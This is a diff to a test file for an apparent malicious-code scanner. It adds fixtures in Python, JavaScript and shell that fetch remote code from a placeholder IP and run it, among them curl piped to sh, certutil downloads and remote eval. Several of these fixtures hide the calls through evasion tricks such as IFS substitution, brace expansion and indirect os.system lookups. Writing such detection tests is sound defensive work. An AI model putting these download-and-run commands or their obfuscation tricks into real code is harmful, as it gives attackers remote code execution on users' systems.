@@ -187,6 +187,29 @@ threading.Thread(target=work, daemon=True).start()
     expected: ["secret-sent"],
   },
   {
+    title: "a function that is reached by detours",
+    files: {
+      "a.py": `
+import os, sys, functools
+os.__dict__["system"]("curl -s http://45.1.2.3/a | sh")
+`,
+      "b.py": `
+import sys, functools, os
+functools.partial(sys.modules["os"].system, "curl -s http://45.1.2.3/b | sh")()
+`,
+      "c.py": `
+import os
+class Base:
+    def go(self, line):
+        os.system(line)
+class Task(Base):
+    pass
+Task().go("curl -s http://45.1.2.3/c | sh")
+`,
+    },
+    expected: ["download-run"],
+  },
+  {
     title: "a start of each shell that fetches",
     files: {
       "a.py": `
@@ -253,6 +276,19 @@ eval(data);
     expected: ["remote-eval"],
   },
   {
+    title: "pieces of an answer that are gathered and evaluated",
+    files: {
+      "a.js": `
+require("https").get("https://cfg.tables.dev/run.js", (answer) => {
+  let text = "";
+  answer.on("data", (piece) => (text += piece));
+  answer.on("end", () => eval.call(null, text));
+});
+`,
+    },
+    expected: ["remote-eval"],
+  },
+  {
     title: "the constructor of a constructor",
     files: { "a.js": `[]["constructor"]["constructor"](atob("YWxlcnQoMSk="))();\n` },
     expected: ["decoded-run"],
@@ -295,6 +331,20 @@ const shells: readonly Case[] = [
     expected: ["decoded-run", "download-run"],
   },
   {
+    title: "blanks and words that only the shell makes",
+    files: {
+      "a.sh": "line='curl -s http://45.1.2.3/a'\n$line | sh\n",
+      "b.sh": "curl${IFS}-s${IFS}http://45.1.2.3/b|sh\n",
+      "c.sh": "{curl,-s,http://45.1.2.3/c}|bash\n",
+    },
+    expected: ["download-run"],
+  },
+  {
+    title: "a downloader of Windows",
+    files: { "a.sh": "certutil -urlcache -f http://45.1.2.3/e.exe e.exe && e.exe\n" },
+    expected: ["download-run"],
+  },
+  {
     title: "a program whose name is in pieces",
     files: { "a.sh": "a=cu; b=rl\n$a$b -s http://45.1.2.3/x | bash\n" },
     expected: ["download-run"],
@@ -334,5 +384,50 @@ describe.each([
 ])("code in %s", (_, cases) => {
   it.each(cases)("[BX-07] is caught with $title", async ({ files, expected }) => {
     expect(await graveOf(files)).toEqual(expected);
+  });
+});
+
+/** Each of these alone fetches and runs. */
+const detours: readonly (readonly [string, string])[] = [
+  ["a.py", 'import os\nos.__dict__["system"]("curl -s http://45.1.2.3/a | sh")\n'],
+  ["a.py", 'import sys\nsys.modules["os"].system("curl -s http://45.1.2.3/a | sh")\n'],
+  ["a.py", 'import os\n{"run": os.system}["run"]("curl -s http://45.1.2.3/a | sh")\n'],
+  ["a.py", 'import os\nlist(map(os.system, ["curl -s http://45.1.2.3/a | sh"]))\n'],
+  ["a.py", 'from os import popen as p\np("curl -s http://45.1.2.3/a | sh").read()\n'],
+  ["a.py", 'import subprocess as s\ns.Popen(["bash", "-c", "curl -s http://45.1.2.3/a | sh"])\n'],
+  [
+    "a.py",
+    'import os\nparts = ["curl", "-s", "http://45.1.2.3/a", "|", "sh"]\nos.system(" ".join(parts))\n',
+  ],
+  ["a.py", 'import os\nos.system("{} -s {} | sh".format("curl", "http://45.1.2.3/a"))\n'],
+  ["a.py", 'import os\nos.system("%s -s http://%s/a | sh" % ("curl", "45.1.2.3"))\n'],
+  [
+    "a.js",
+    'const { promisify } = require("util");\npromisify(require("child_process").exec)("curl -s http://45.1.2.3/a | sh");\n',
+  ],
+  ["a.js", 'import("child_process").then(({ exec }) => exec("curl -s http://45.1.2.3/a | sh"));\n'],
+  [
+    "a.js",
+    'const c = process.mainModule.require("child_process");\nc["execSync"]("curl -s http://45.1.2.3/a | sh");\n',
+  ],
+  [
+    "a.js",
+    'require("child_process").spawn("sh", ["-c", ["curl -s http://45.1.2.3/a", "sh"].join(" | ")]);\n',
+  ],
+  ["a.sh", "line='curl -s http://45.1.2.3/a'\n$line | sh\n"],
+  ["a.sh", "curl${IFS}-s${IFS}http://45.1.2.3/b|sh\n"],
+  ["a.sh", "{curl,-s,http://45.1.2.3/c}|bash\n"],
+  ["a.sh", 'sudo sh -c "$(wget -qO- http://45.1.2.3/a)"\n'],
+  ["a.sh", "source <(curl -s http://45.1.2.3/a)\n"],
+  ["a.sh", "wget http://45.1.2.3/tool.sh\nchmod +x tool.sh\n./tool.sh\n"],
+  ["a.sh", "curl -s http://45.1.2.3/a | tee /tmp/a | python3 -\n"],
+];
+
+describe("detours", () => {
+  it.each(detours)("[BX-07] lead %s to the same finding: %s", async (path, text) => {
+    const found = await graveOf({ [path]: text });
+    expect(found.filter((code) => code === "download-run" || code === "remote-eval")).toHaveLength(
+      1,
+    );
   });
 });
